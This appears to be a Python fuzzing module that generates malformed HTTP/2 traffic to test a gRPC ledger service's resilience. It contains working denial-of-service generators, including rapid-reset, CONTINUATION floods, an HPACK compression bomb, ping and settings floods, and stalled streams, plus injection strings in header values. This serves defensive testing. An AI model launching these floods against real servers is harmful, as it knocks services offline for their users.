"""HTTP/2 as no sound client speaks it: frames, headers and connections that are wrong, endless, or left half open."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from random import Random
from typing import Final, TypeAlias

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM: Final = 0x1
END_HEADERS: Final = 0x4

Headers: TypeAlias = list[tuple[bytes, bytes]]
Attack: TypeAlias = Callable[[Random], Iterator[bytes]]
"""From a source of chance to what one connection sends, piece by piece: each is one frame, or what passes for it."""

ATTACKS: Final[dict[str, Attack]] = {}


def attack(function: Attack) -> Attack:
    """Add it to the attacks, by its name."""
    ATTACKS[function.__name__.replace("_", " ")] = function
    return function


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def hpack(headers: Headers) -> bytes:
    """Each a literal without indexing, in the simplest form there is (RFC 7541, 6.2.2)."""
    return b"".join(b"\x00" + _string(name) + _string(value) for name, value in headers)


def call(path: bytes = b"/ledger.v1.AccountService/GetAccount") -> Headers:
    """The headers of a sound call."""
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]


def message(body: bytes, compressed: int = 0, claimed: int | None = None) -> bytes:
    """With gRPC's five bytes before it, which may lie about the length."""
    return struct.pack(">BI", compressed, len(body) if claimed is None else claimed) + body


def opened() -> bytes:
    """What a connection begins with."""
    return PREFACE + frame(SETTINGS)


# --- before HTTP/2 ---------------------------------------------------------------------------------------------------


@attack
def another_protocol(random: Random) -> Iterator[bytes]:
    yield random.choice(
        (
            b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
            b"POST /ledger.v1.AccountService/GetAccount HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\n",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + random.randbytes(500),
            b"SSH-2.0-OpenSSH_9.6\r\n",
            b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n",
            b"\x00\x00\x00\x08\x04\xd2\x16\x2f",
            PREFACE[: random.randrange(len(PREFACE))],
            PREFACE.lower(),
            b"",
        )
    )


@attack
def noise(random: Random) -> Iterator[bytes]:
    for _ in range(random.randrange(1, 5)):
        yield random.randbytes(random.randrange(1, 2_000))


@attack
def noise_after_the_preface(random: Random) -> Iterator[bytes]:
    yield opened()
    for _ in range(random.randrange(1, 5)):
        yield random.randbytes(random.randrange(1, 2_000))


# --- frames ----------------------------------------------------------------------------------------------------------


@attack
def any_frames(random: Random) -> Iterator[bytes]:
    """Of any kind, known or not, on any stream, with anything in them."""
    yield opened()
    for _ in range(random.randrange(1, 40)):
        payload = random.randbytes(random.choice((0, 1, 4, 5, 6, 8, 40, 300)))
        stream = random.choice((0, 1, 2, 3, 5, 2**31 - 1))
        yield frame(random.choice((*range(10), 10, 200)), random.randrange(256), stream, payload)


@attack
def lengths_that_lie(random: Random) -> Iterator[bytes]:
    """A frame that is longer than the settings allow, or of which the end never comes."""
    yield opened()
    claimed = random.choice((2**14 + 1, 2**16, 2**24 - 1))
    yield struct.pack(">I", claimed)[1:] + struct.pack(">BBI", random.randrange(10), 0, 1) + random.randbytes(400)


@attack
def a_settings_flood(random: Random) -> Iterator[bytes]:
    yield opened()
    for _ in range(random.randrange(100, 600)):
        kind, value = random.choice((1, 2, 3, 4, 5, 6, 99)), random.choice((0, 1, 2**14, 2**31 - 1, 2**32 - 1))
        yield frame(SETTINGS, payload=struct.pack(">HI", kind, value) * random.choice((0, 1, 1, 30)))


@attack
def a_ping_flood(random: Random) -> Iterator[bytes]:
    yield opened()
    for _ in range(random.randrange(100, 600)):
        yield frame(PING, random.choice((0, 0, 0, 1)), payload=random.randbytes(8))


@attack
def windows_out_of_bounds(random: Random) -> Iterator[bytes]:
    yield opened() + frame(HEADERS, END_HEADERS, 1, hpack(call()))
    for _ in range(random.randrange(1, 30)):
        yield frame(WINDOW_UPDATE, 0, random.choice((0, 1, 3)), struct.pack(">I", random.choice((0, 1, 2**31 - 1))))


@attack
def empty_frames(random: Random) -> Iterator[bytes]:
    """Data without data, headers without headers: work for nothing."""
    yield opened() + frame(HEADERS, END_HEADERS, 1, hpack(call()))
    for _ in range(random.randrange(100, 600)):
        yield frame(random.choice((DATA, DATA, CONTINUATION, PRIORITY)), 0, 1)


@attack
def data_where_no_stream_is(random: Random) -> Iterator[bytes]:
    yield opened()
    for _ in range(random.randrange(1, 30)):
        yield frame(DATA, random.choice((0, END_STREAM)), random.choice((0, 1, 2, 99)), random.randbytes(50))


# --- headers ---------------------------------------------------------------------------------------------------------


@attack
def a_continuation_flood(random: Random) -> Iterator[bytes]:
    """Headers that never end (CVE-2024-27316 and its relatives)."""
    yield opened() + frame(HEADERS, 0, 1, hpack(call()))
    more = hpack([(b"x-%d" % number, random.randbytes(20).hex().encode()) for number in range(20)])
    for _ in range(random.randrange(50, 400)):
        yield frame(CONTINUATION, 0, 1, random.choice((more, more, b"")))


@attack
def a_header_flood(random: Random) -> Iterator[bytes]:
    """More and larger headers than anybody needs, on stream after stream."""
    yield opened()
    for stream in range(1, random.randrange(3, 60), 2):
        size = random.choice((10, 1_000, 15_000))
        headers = call() + [(b"x-%d" % number, b"v" * size) for number in range(15_000 // size)]
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, hpack(headers)[: 2**14])


@attack
def a_compression_bomb(random: Random) -> Iterator[bytes]:
    """A large header put into the table once, and then referred to with one byte, over and over.

    Twenty times, five times what a call may have: gRPC unpacks ten thousand as well before it counts, and is slow to
    give back what that takes, which only a limit on the memory of the process can bound (SECURITY.md).
    """
    yield opened()
    large = b"\x40" + _string(b"x-bomb") + _string(b"v" * 3_900)
    for stream in range(1, random.randrange(3, 40), 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, hpack(call()) + large + b"\xbe" * 20)


@attack
def headers_that_are_no_hpack(random: Random) -> Iterator[bytes]:
    yield opened()
    for stream in range(1, random.randrange(3, 20), 2):
        noise = random.choice(
            (random.randbytes(60), b"\xff" * 30, b"\x80", b"\x3f\xff\xff\xff\xff\xff\x0f", b"\x00\x8f")
        )
        yield frame(HEADERS, END_HEADERS | random.choice((0, END_STREAM)), stream, noise)


@attack
def headers_that_no_call_has(random: Random) -> Iterator[bytes]:
    """Wrong methods, paths, types, encodings and deadlines; some left out, some twice, some that are not text."""
    yield opened()
    for stream in range(1, random.randrange(3, 60), 2):
        headers = dict(call())
        name, value = random.choice(_ODD_HEADERS)
        headers[name] = value
        some = [each for each in headers.items() if random.random() < 0.95]
        if random.random() < 0.2:
            random.shuffle(some)
        if random.random() < 0.2:
            some.append(random.choice(some))
        yield frame(HEADERS, END_HEADERS, stream, hpack(some))
        yield frame(DATA, END_STREAM, stream, message(b"\x12\x05alice"))


_ODD_HEADERS: Final = (
    (b":method", b"GET"),
    (b":method", b"BREW"),
    (b":path", b""),
    (b":path", b"*"),
    (b":path", b"/"),
    (b":path", b"//"),
    (b":path", b"/ledger.v1.AccountService/Nothing"),
    (b":path", b"/ledger.v1.AccountService/GetAccount?x=1"),
    (b":path", b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"),
    (b":path", b"/" + b"a" * 5_000),
    (b":path", b"/\xff\xfe/\x00"),
    (b":scheme", b"gopher"),
    (b":authority", b"'; DROP TABLE events; --"),
    (b":status", b"200"),
    (b"content-type", b"application/json"),
    (b"content-type", b"application/grpc+json"),
    (b"content-type", b""),
    (b"te", b"gzip"),
    (b"connection", b"keep-alive"),
    (b"transfer-encoding", b"chunked"),
    (b"content-length", b"-1"),
    (b"grpc-timeout", b"1n"),
    (b"grpc-timeout", b"99999999H"),
    (b"grpc-timeout", b"-5S"),
    (b"grpc-timeout", b"soon"),
    (b"grpc-encoding", b"gzip"),
    (b"grpc-encoding", b"brotli"),
    (b"grpc-accept-encoding", b",,,," * 500),
    (b"grpc-message-type", b"\x00"),
    (b"grpc-status", b"0"),
    (b"grpc-trace-bin", b"!!!not base64!!!"),
    (b"x-odd-bin", b"====="),
    (b"x-correlation-id", b"\xff\xff"),
    (b"x-correlation-id", b"a" * 9_000),
    (b"traceparent", b"00-" + b"f" * 4_000),
    (b"authorization", b"Bearer \x01\x02"),
    (b"authorization", b"Bearer " + b"a" * 7_000),
    (b"UPPER", b"case"),
    (b"", b"no name"),
    (b"with space", b"x"),
    (b"x-line", b"a\r\nb: c"),
)


# --- streams ---------------------------------------------------------------------------------------------------------


@attack
def a_rapid_reset(random: Random) -> Iterator[bytes]:
    """Calls that are begun and taken back at once (CVE-2023-44487)."""
    yield opened()
    sent = random.random() < 0.5
    for stream in range(1, random.randrange(200, 1_200), 2):
        begun = frame(HEADERS, END_HEADERS | (0 if sent else END_STREAM), stream, hpack(call()))
        body = frame(DATA, END_STREAM, stream, message(b"\x12\x05alice")) if sent else b""
        yield begun + body + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


@attack
def streams_out_of_order(random: Random) -> Iterator[bytes]:
    """Even ones, earlier ones, the same one again, the last one that there can be."""
    yield opened()
    for _ in range(random.randrange(2, 20)):
        stream = random.choice((0, 1, 1, 2, 3, 7, 5, 2**31 - 1))
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, hpack(call()))


@attack
def calls_without_an_end(random: Random) -> Iterator[bytes]:
    """As many as the server lets in, none of which ever gets its request."""
    yield opened()
    for stream in range(1, random.randrange(50, 400), 2):
        yield frame(HEADERS, END_HEADERS, stream, hpack(call()))


@attack
def messages_that_lie(random: Random) -> Iterator[bytes]:
    """About their length, about being compressed, about being alone."""
    yield opened()
    for stream in range(1, random.randrange(3, 30), 2):
        body = random.choice(
            (
                message(b"", claimed=2**32 - 1),
                message(b"x" * 10, claimed=11),
                message(b"\x12\x05alice", compressed=1),
                message(b"\x12\x05alice", compressed=77),
                message(b"\x12\x05alice") * 3,
                message(b"\x12\x05alice") + b"\x00",
                message(b"")[: random.randrange(5)],
                b"",
            )
        )
        yield frame(HEADERS, END_HEADERS, stream, hpack(call()))
        for place in range(0, len(body), 7):
            yield frame(DATA, 0, stream, body[place : place + 7])
        yield frame(DATA, END_STREAM, stream)


@attack
def answers_that_nobody_reads(random: Random) -> Iterator[bytes]:
    """Calls with a window of nothing: their answers wait in the server for as long as the connection lasts."""
    yield PREFACE + frame(SETTINGS, payload=struct.pack(">HI", 4, 0))
    path = random.choice((b"/ledger.v1.AuditService/ReadEvents", b"/ledger.v1.AccountService/ListAccounts"))
    for stream in range(1, random.randrange(20, 200), 2):
        yield frame(HEADERS, END_HEADERS, stream, hpack(call(path))) + frame(DATA, END_STREAM, stream, message(b""))


@attack
def a_byte_at_a_time(random: Random) -> Iterator[bytes]:
    whole = opened() + frame(HEADERS, END_HEADERS, 1, hpack(call())) + frame(DATA, 0, 1, message(b"\x12\x05alice"))
    for place in range(random.randrange(1, len(whole))):
        yield whole[place : place + 1]


def _string(text: bytes) -> bytes:
    """A length with a prefix of seven bits, and the text (RFC 7541, 5.2)."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, data = len(text) - 127, bytearray([127])
    while rest > 127:
        data.append(rest & 127 | 128)
        rest >>= 7
    return bytes([*data, rest]) + text
